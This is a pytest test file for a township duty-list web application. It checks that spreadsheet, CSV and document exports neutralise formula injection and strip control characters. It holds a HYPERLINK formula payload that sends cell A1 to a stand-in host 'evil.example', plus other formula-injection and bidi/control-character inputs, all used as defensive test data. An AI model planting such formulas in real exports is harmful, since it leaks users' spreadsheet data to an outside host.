"""Every download holds hostile text safely: formula-looking text is never a formula in a spreadsheet
(OWASP's CSV injection advice) and awkward characters (controls, non-characters, zero-width, RTL marks,
combining marks, emoji) already in the database (legacy data, written below the input rules) never make
a download fail."""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from dutylist.extensions import db
from dutylist.models import User
from dutylist.services.snapshot import EntryData, publish_version
from workflow import operations as ops

from .factories import LEVELS, World

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
#: each awkward string users have pasted or attackers have tried, in one text
AWKWARD = "甲\t乙\n丙\r\n丁 零\u200b宽 e\u0301 😀 \u202e右左\u200f \u0001 \ufffe \uffff \x7f \x85 \ufdd0 \U0001fffe 末"
PAYLOADS = {"formula": FORMULA, "plus": "+86-994-1234567", "minus": "-1+1", "at": "@SUM(A1:A2)",
            "tab": "\t=1+1", "cr": "\r=1+1", "awkward": AWKWARD}


@pytest.fixture(params=["formula", "awkward"])
def hostile(request, app):
    """A township with a published version, a second version and an open revision whose texts (names,
    duties, departments, reasons, opinions, answers, titles, a user's name) all carry the payload."""
    payload = PAYLOADS[request.param]
    world = World()
    rev = ops.start_revision(world.town, world.drafter, title=payload)
    ops.add_item(rev, world.drafter, "basic", {"category": "党的建设", "name": payload}, payload)
    ops.add_item(rev, world.drafter, "cooperative", {
        "category": "民生服务", "name": payload + "配合", "departments_text": f"吉木萨尔县民政局、{payload}",
        "dept_duties": [payload], "township_duties": [payload]}, payload)
    ops.add_item(rev, world.drafter, "withdrawn", {
        "category": "民生服务", "name": payload + "收回", "receiving": [{"department": payload, "method": payload}]},
        payload)
    db.session.commit()
    ops.fire(rev, "submit", world.drafter, levels=LEVELS)
    ops.fire(rev, "accept", world.officer, levels=LEVELS, departments=[world.civil.id],
             deadline=date.today() + timedelta(days=7))
    db.session.commit()
    basic = next(i for i in rev.items if i.name == payload)
    opinion = ops.add_opinion(rev, world.civil_user, payload, basic.item_id)
    ops.sign_off(rev, world.civil_user, "with_opinions")
    db.session.commit()
    ops.fire(rev, "return_for_revision", world.officer, levels=LEVELS, reason=payload)
    db.session.commit()
    ops.answer_opinion(opinion, world.drafter, "partly", payload)
    ops.reply_opinion(opinion, world.civil_user, payload)
    db.session.commit()
    v2 = publish_version(world.town, [EntryData(i.kind, i.number, i.fields(), i.item_id) for i in rev.items
                                      if not i.deleted], source="import", title=payload)
    db.session.get(User, world.civil_user.id).display_name = payload
    db.session.commit()
    return world, rev, v2, payload


def downloads(world, rev, v2) -> list[tuple[str, str, str]]:
    """(user, url, format) of every download that can carry item text."""
    town, a = world.town.id, world.version.id
    out = [("dayou-drafter", f"/versions/{v}/export.{fmt}", fmt)
           for v in (v2.id, a) for fmt in ("docx", "xlsx", "pdf", "csv", "json")]  # a: without the payload
    out += [("dayou-drafter", f"/revisions/{rev.id}/export.{fmt}", fmt) for fmt in ("docx", "xlsx", "pdf", "csv", "json")]
    out += [("dayou-drafter", f"/townships/{town}/diff.{fmt}?a={a}&b={v2.id}", fmt) for fmt in ("docx", "xlsx")]
    out += [("dayou-drafter", f"/revisions/{rev.id}/diff.{fmt}", fmt) for fmt in ("docx", "xlsx")]
    out += [("dayou-drafter", f"/revisions/{rev.id}/opinions/summary.{fmt}", fmt) for fmt in ("docx", "xlsx")]
    out += [("dayou-drafter", f"/townships/{town}/diff?a={a}&b={v2.id}", "html"),
            ("dayou-drafter", f"/revisions/{rev.id}/diff", "html"),
            ("dayou-drafter", f"/revisions/{rev.id}/opinions/summary", "html"),
            ("admin", "/admin/users/export.xlsx", "xlsx")]
    return out


def _fetch_all(app, world, rev, v2):
    clients = {}
    for user, url, fmt in downloads(world, rev, v2):
        if user not in clients:
            clients[user] = app.test_client()
            assert clients[user].login(user).status_code == 302
        response = clients[user].get(url)
        if fmt == "pdf" and response.status_code == 503:
            continue  # no CJK font on this machine
        assert response.status_code == 200, (url, response.status_code)
        carries = f"/versions/{world.version.id}/" not in url
        yield url, fmt, response.get_data(), carries


def _sheet_cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            yield from (c for c in row if c.value is not None)


def test_no_download_fails_and_no_spreadsheet_holds_a_formula(app, hostile):
    world, rev, v2, payload = hostile
    seen = 0
    for url, fmt, data, carries in _fetch_all(app, world, rev, v2):
        if fmt == "xlsx":
            with zipfile.ZipFile(io.BytesIO(data)) as zf:
                for name in zf.namelist():
                    if name.startswith("xl/worksheets/"):
                        xml = zf.read(name)
                        assert not re.search(rb"<f[ >]", xml), f"{url}: a formula in {name}"
            cells = list(_sheet_cells(data))
            assert all(c.data_type != "f" for c in cells), url
            if payload != AWKWARD and carries:  # the text reads as written (not prefixed in the cell)
                assert any(isinstance(c.value, str) and payload.strip() in c.value for c in cells), url
                risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
                assert risky and all(c.quotePrefix for c in risky), url  # Excel keeps it text when edited
        elif fmt == "csv":
            rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
            fields = [f for row in rows for f in row]
            assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")], url
            if payload != AWKWARD and carries:
                assert any(f == "'" + payload for f in fields), url  # quoted, otherwise as written
        elif fmt == "json":
            json.loads(data)
        seen += 1
    assert seen >= 20


def test_awkward_characters_are_removed_from_downloads_but_the_text_stays(app, hostile):
    world, rev, v2, payload = hostile
    if payload != AWKWARD:
        pytest.skip("the awkward-characters payload only")
    for url, fmt, data, carries in _fetch_all(app, world, rev, v2):
        if fmt in ("xlsx", "docx"):
            with zipfile.ZipFile(io.BytesIO(data)) as zf:
                text = "".join(zf.read(n).decode("utf-8") for n in zf.namelist() if n.endswith(".xml"))
            if fmt == "xlsx":  # openpyxl may write characters as references: read the cells back too
                text += "".join(str(c.value) for c in _sheet_cells(data))
            for bad in ("\u0001", "\ufffe", "\uffff", "\x7f", "\x85", "\ufdd0", "\U0001fffe"):
                assert bad not in text, (url, hex(ord(bad)))
            if carries:  # the printable ones stay
                assert "😀" in text and "e\u0301" in text and "零\u200b宽" in text, url
        elif fmt == "csv":
            text = data.decode("utf-8-sig")
            assert "\u0001" not in text and "\ufffe" not in text and ("😀" in text or not carries), url
